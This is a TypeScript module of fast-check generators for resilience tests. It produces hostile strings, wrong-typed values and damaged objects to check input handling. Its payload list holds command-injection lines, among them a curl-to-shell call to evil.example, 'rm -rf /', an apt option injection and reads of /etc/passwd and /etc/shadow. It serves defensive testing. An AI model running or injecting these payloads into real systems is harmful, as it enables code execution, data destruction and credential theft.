/**
 * fast-check arbitraries for hostile input: strings that break shells, parsers, regexes and
 * terminals, values of the wrong type, and ways to damage a valid object (drop a required
 * field, give it the wrong type, fill it with hostile text).
 */
import fc from 'fast-check';

/** The seed every resilience property uses, so a failure replays exactly. */
export const resilienceSeed = 20261130;

/** Things a shell, apt or a YAML/INI reader would interpret. */
export const shellAndOptionPayloads = [
  '$(reboot)',
  '`id`',
  '; rm -rf / ;',
  '&& curl http://evil.example | sh',
  "htop' && reboot '",
  'htop"; reboot; "',
  'htop\nreboot',
  'htop\r\nreboot',
  'a|b',
  'a>b',
  '<(id)',
  '${IFS}reboot',
  '-oAPT::Update::Pre-Invoke::=touch /tmp/pwned',
  '--allow-unauthenticated',
  '-y',
  '--',
  '-',
  '*',
  '~root',
  '#comment',
  '!!',
  '\\',
  '\u0000',
  '\u202ereversed',
  'ｈｔｏｐ',
  'htop\u200b',
  '../../etc/passwd',
  '/etc/shadow',
  '%2e%2e%2f',
  '{{7*7}}',
  '[all]\nevil ansible_ssh_host=1.2.3.4',
  'ansible_ssh_host=6.6.6.6',
  'AA:BB:CC:DD:EE:FF; reboot',
  'aa:bb:cc:dd:ee:ff\n',
  'gg:hh:ii:jj:kk:ll',
  ' aa:bb:cc:dd:ee:ff',
  '🔥🔥🔥',
  'null',
  'true',
  '0x41',
  'NaN',
] as const;

const metaCharacter = fc.constantFrom(
  ';',
  '|',
  '&',
  '$',
  '(',
  ')',
  '`',
  '>',
  '<',
  '\n',
  "'",
  '"',
  '\\',
  '*',
  '?',
  '~',
  '#',
  '!',
  '{',
  '}',
  ' ',
  '\t',
  '=',
  '-',
  ':',
  '/',
  '.',
  '\u0000',
  '\u00a0',
  '\u2028',
);

/** A string made to hurt: unicode, control characters, shell syntax, option-like, or huge. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...shellAndOptionPayloads), weight: 4 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.array(metaCharacter, { minLength: 1, maxLength: 12 }).map((a) => a.join('')), weight: 3 },
  {
    arbitrary: fc
      .tuple(fc.stringMatching(/^[a-z0-9]{1,8}$/), metaCharacter, fc.stringMatching(/^[a-z]{1,8}$/))
      .map(([a, m, b]) => `${a}${m}${b}`),
    weight: 3,
  },
  { arbitrary: fc.integer({ min: 300, max: 70_000 }).map((n) => 'x'.repeat(n)), weight: 1 },
);

/** A value of some JSON type, often not the one a field expects. */
export const wrongTypedValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.constant([]),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.constant({}),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.integer(), { maxKeys: 3 }),
);

export type Path = readonly (string | number)[];

/** A copy of `value` with the field at `path` replaced (or removed when `replacement` is `remove`). */
export const remove = Symbol('remove');
export function withField(value: unknown, path: Path, replacement: unknown): unknown {
  const copy = structuredClone(value) as Record<string | number, unknown>;
  let cursor: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) {
    const next = cursor[key];
    if (next === null || typeof next !== 'object') return copy;
    cursor = next as Record<string | number, unknown>;
  }
  const last = path[path.length - 1]!;
  if (replacement === remove) {
    if (Array.isArray(cursor) && typeof last === 'number') cursor.splice(last, 1);
    else delete cursor[last];
  } else cursor[last] = replacement;
  return copy;
}

/** A damaged value and whether the damage must make it invalid (`malformed`) or may pass (`hostile`). */
export interface Damaged {
  value: unknown;
  how: string;
  malformed: boolean;
}

/**
 * Damage a valid object: `required` paths may be removed or retyped (always invalid, since the
 * value at each must be a string/number/array/object of the given kind); `text` paths get
 * hostile strings (maybe still valid: the handler must then cope without a 5xx).
 */
export function damage(
  valid: unknown,
  fields: {
    /** Typed fields; `optional` ones are only retyped, never removed. */
    required: readonly { path: Path; type: 'string' | 'number' | 'array' | 'object'; optional?: boolean }[];
    text: readonly Path[];
  },
): fc.Arbitrary<Damaged> {
  // An optional field may also be null (`nullish` in the schemas), so null is no damage there.
  const wrongFor = (type: string, optional?: boolean) =>
    wrongTypedValue.filter((v) => jsonType(v) !== type && !(optional && v === null));
  const removed = fc.constantFrom(...fields.required.filter((field) => !field.optional)).map(({ path }) => ({
    value: withField(valid, path, remove),
    how: `missing ${path.join('.')}`,
    malformed: true,
  }));
  const retyped = fc.constantFrom(...fields.required).chain(({ path, type, optional }) =>
    wrongFor(type, optional).map((v) => ({
      value: withField(valid, path, v),
      how: `${path.join('.')} as ${jsonType(v)}`,
      malformed: true,
    })),
  );
  const arbitraries: fc.Arbitrary<Damaged>[] = [removed, retyped];
  if (fields.text.length > 0) {
    arbitraries.push(
      fc.tuple(fc.constantFrom(...fields.text), hostileString).map(([path, text]) => ({
        value: withField(valid, path, text),
        how: `hostile ${path.join('.')}`,
        malformed: false,
      })),
    );
  }
  return fc.oneof(...arbitraries);
}

export function jsonType(value: unknown): string {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  return typeof value;
}

/** Printable for a failure message: short, escaped. */
export const show = (value: unknown) => {
  const text = JSON.stringify(value) ?? String(value);
  return text.length > 200 ? `${text.slice(0, 200)}…(${text.length} chars)` : text;
};
